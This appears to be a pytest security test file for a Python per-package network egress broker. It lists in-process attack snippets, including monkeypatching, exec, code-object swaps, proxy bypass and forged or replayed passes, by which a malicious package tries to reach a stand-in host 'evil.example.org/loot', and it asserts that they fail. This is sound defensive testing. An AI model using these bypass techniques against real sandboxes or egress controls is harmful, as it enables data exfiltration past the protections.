"""Claims: a package without leave does not get out by way of another one; and what in-process code *can* still do.

Each attack is a real installed package, `evil`, in one process with `alpha`, which may reach alpha.example.com and nothing else.
Judged at the origins: what did evil.example.org see, what did alpha.example.com see. Rows marked KNOWN succeed today: they are
documented expectations (SECURITY.md), each bounded by the layer that is named. If one stops succeeding, update both.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.support.origin import Origin
from tests.support.packages import installed
from tests.support.runs import Run, run_script

POLICY = """version: 1
include: [preset:http-clients]
packages:
  alpha: {allow: [network:http], http: ["https://alpha.example.com/api"]}
"""
EVIL = "https://evil.example.org/loot"
MAIN = "import alpha, evil\nevil.go()\n"

FORGE = '''
import json, os, socket, requests
requests.get("https://alpha.example.com/not-granted")  # refused; but now the process has its session
def mint(use, chain, dst):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.connect(os.environ["OUTPASS_MINT"])
    ask = {"op": "mint", "use": use, "cap": "network:http", "dst": dst, "tls": True, "chain": chain}
    s.send(json.dumps(ask).encode())
    return json.loads(s.recv(65536))
def through(host, connect, inner, path="/api"):
    """One HTTPS request through the gate, by hand, with these passes."""
    import ssl
    proxy = os.environ["OUTPASS_PROXY"].split(":")
    s = socket.create_connection((proxy[0], int(proxy[1])))
    line = f"Proxy-Authorization: Bearer {connect}\\r\\n" if connect else ""
    s.sendall(f"CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}:443\\r\\n{line}\\r\\n".encode())
    head = s.recv(65536)
    if b" 200 " not in head.split(b"\\r\\n")[0]:
        return int(head.split()[1])
    t = ssl.create_default_context().wrap_socket(s, server_hostname=host)
    line = f"Outpass-Token: {inner}\\r\\n" if inner else ""
    t.sendall(f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\n{line}Connection: close\\r\\n\\r\\n".encode())
    return int(t.recv(65536).split()[1])
'''


class Attack(NamedTuple):
    sentence: str
    evil: str
    alpha_sees: int = 0
    """requests that reach alpha's own host: what impersonating alpha gets at most"""
    known: str = ""
    """the layer that bounds an attack that works today"""


ATTACKS = [
    Attack("asking for itself", f'import requests\ndef go(): print(requests.get("{EVIL}").status_code)'),
    Attack(
        "asking for the victim's host",
        'import requests\ndef go(): print(requests.get("https://alpha.example.com/api").status_code)',
    ),
    Attack("having the victim's function fetch another URL", f'import alpha\ndef go(): print(alpha.fetch("{EVIL}").status_code)'),
    Attack("having the victim's function fetch its own", "import alpha\ndef go(): print(alpha.fetch().status_code)"),
    Attack(
        "changing the victim's module variable",
        f'import alpha\ndef go():\n    alpha.URL = "{EVIL}"\n    print(alpha.fetch().status_code)',
    ),
    Attack(
        "making the victim's client with another URL", f'import alpha\ndef go(): print(alpha.Client("{EVIL}").get().status_code)'
    ),
    Attack(
        "being called back by the victim",
        f'import alpha, requests\ndef go(): print(alpha.call(requests.get, "{EVIL}").status_code)',
    ),
    Attack(
        "exec in the victim's module dict",
        f"import alpha\ndef go(): exec(\"import requests; print(requests.get('{EVIL}').status_code)\", alpha.__dict__)",
    ),
    Attack(
        "compile under the victim's file name",
        f'import alpha\ndef go(): exec(compile("import requests; print(requests.get(\'{EVIL}\').status_code)", alpha.__file__, "exec"), {{}})',
    ),
    Attack(
        "swapping the victim's code object",
        f'import alpha\ndef mine(url=None):\n    import requests; return requests.get("{EVIL}")\n'
        "def go():\n    alpha.fetch.__code__ = mine.__code__\n    print(alpha.fetch().status_code)",
    ),
    Attack(
        "a thread that runs the victim's function",
        "import alpha, threading\ndef go():\n    t = threading.Thread(target=alpha.fetch); t.start(); t.join()",
    ),
    Attack(
        "a raw thread that runs the victim's function",
        "import alpha, _thread, time\ndef go():\n    _thread.start_new_thread(alpha.fetch, ()); time.sleep(2)",
    ),
    Attack(
        "a pool that runs the victim's function",
        "import alpha, concurrent.futures as f\ndef go():\n    with f.ThreadPoolExecutor() as p: p.submit(alpha.fetch).result()",
    ),
    Attack(
        "a task that runs the victim's function",
        "import alpha, asyncio\nasync def main(): await asyncio.create_task(asyncio.to_thread(alpha.fetch))\ndef go(): asyncio.run(main())",
    ),
    Attack(
        "call_soon with the victim's function",
        "import alpha, asyncio\nasync def main():\n    asyncio.get_running_loop().call_soon(alpha.fetch); await asyncio.sleep(1)\n"
        "def go(): asyncio.run(main())",
    ),
    Attack(
        "a patched HTTP library that rewrites the app's URL",
        f'import requests, alpha\nsend = requests.Session.send\ndef mine(self, r, **k):\n    r.url = "{EVIL}"\n    return send(self, r, **k)\n'
        "def go():\n    requests.Session.send = mine\n    print(alpha.fetch().status_code)",
    ),
    Attack(
        "a session that ignores the proxy",
        f'import requests\ndef go():\n    s = requests.Session(); s.trust_env = False\n    print(s.get("{EVIL}").status_code)',
    ),
    Attack(
        "NO_PROXY=*",
        f'import os, requests\ndef go():\n    os.environ["NO_PROXY"] = os.environ["no_proxy"] = "*"\n    print(requests.get("{EVIL}").status_code)',
    ),
    Attack("no pass at all", FORGE + 'def go(): print(through("alpha.example.com", None, None))'),
    Attack("a made-up pass", FORGE + 'def go(): print(through("alpha.example.com", "eyJhbGciOiJub25lIn0.e30.", None))'),
    Attack(
        "a connect pass and no inner one",
        FORGE
        + 'def go(): print(through("alpha.example.com", mint("connect", ["alpha", "app"], "alpha.example.com:443")["pass"], None))',
    ),
    Attack(
        "a subinterpreter's __main__ posing as the app",
        "def go():\n    try:\n        import _interpreters as i\n    except ImportError:\n        import _xxsubinterpreters as i\n"
        f"    i.exec(i.create(), \"import requests; requests.get('{EVIL}')\")",
    ),
    Attack(
        "a forked child that speaks over its parent's broker connection",
        'import os, requests\ndef go():\n    requests.get("https://alpha.example.com/api")\n    if os.fork() == 0:\n'
        f'        try: requests.get("{EVIL}")\n        finally: os._exit(0)\n    os.wait()',
    ),
    Attack(
        "replaying a pass that was seen",
        "import http.client, alpha, requests\nseen = []\nput = http.client.HTTPConnection.putheader\n"
        "def go(): pass\n" + FORGE + 'def later(c, i):\n    print("replayed", through("alpha.example.com", c, i))\n'
        'def go():\n    c = mint("connect", ["alpha", "app"], "alpha.example.com:443")["pass"]\n'
        '    i = mint("request", ["alpha", "app"], "alpha.example.com:443")["pass"]\n'
        '    print(through("alpha.example.com", c, i)); later(c, i)\n'
        '    c2 = mint("connect", ["alpha", "app"], "alpha.example.com:443")["pass"]; later(c2, i)',
        alpha_sees=1,
        known="the first use is the row below; the replays got nothing",
    ),
    # ------------------------------------------------------------------ what works today: the union of what is granted, and no more
    Attack(
        "speaking to the broker in the victim's name",
        FORGE
        + 'def go():\n    a = ["alpha", "app"]\n    c, i = (mint(u, a, "alpha.example.com:443")["pass"] for u in ("connect", "request"))\n'
        '    print(through("alpha.example.com", c, i))\n'
        '    c, i = (mint(u, a, "evil.example.org:443")["pass"] for u in ("connect", "request"))\n'
        '    print(through("evil.example.org", c, i, "/loot"))',
        alpha_sees=1,
        known="policy: alpha's destinations only",
    ),
    Attack(
        "a lazy result that the app itself drives",
        "import alpha, functools\ndef go():\n    global lazy\n    lazy = map(alpha.fetch, [None])\n",
        alpha_sees=1,
        known="policy: alpha's destinations only",
    ),
]


@pytest.fixture(scope="module")
def origins() -> Iterator[Origin]:
    with Origin(("alpha.example.com", "evil.example.org")) as running:
        yield running


def attack(evil: str, origins: Origin, home: Path) -> tuple[Run, int, int]:
    """Runs it; returns what was left, and how many requests alpha's and evil's hosts saw."""
    before = len(origins.seen)
    python = installed(home, evil)
    main = MAIN + "for answer in getattr(evil, 'lazy', ()): print(answer.status_code)\n"
    options = [*origins.connect_to(), "--upstream-ca", str(origins.ca_file)]
    run = run_script(home, main, *options, policy=POLICY, python=python)
    seen = [s.host.partition(":")[0] for s in origins.seen[before:]]
    return run, seen.count("alpha.example.com"), seen.count("evil.example.org")


@pytest.mark.parametrize("case", ATTACKS, ids=lambda a: a.sentence)
def test_an_attack_gets_at_most_what_the_policy_granted_to_somebody(case: Attack, origins: Origin, tmp_path: Path) -> None:
    run, alpha, evil = attack(case.evil, origins, tmp_path)
    assert evil == 0, run.said()
    assert alpha == case.alpha_sees, f"{case.known or 'not a known bypass'}\n{run.said()}"
    assert alpha or any(r["verdict"] == "deny" for r in run.records), f"the attack never asked\n{run.said()}"
    assert "outpass: error: internal" not in run.err, run.said()


def test_the_victim_itself_still_works(origins: Origin, tmp_path: Path) -> None:
    run, alpha, evil = attack("import alpha\ndef go(): pass\nlazy = ()", origins, tmp_path)
    assert (alpha, evil) == (0, 0)
    main = "import alpha; print('status', alpha.fetch().status_code)"
    options = [*origins.connect_to(), "--upstream-ca", str(origins.ca_file)]
    run = run_script(tmp_path, main, *options, policy=POLICY, python=installed(tmp_path, ""))
    assert "status 200" in run.out, run.said()
    assert run.records[-1]["principal"] == "alpha" and run.records[-1]["version"] == "1.0"
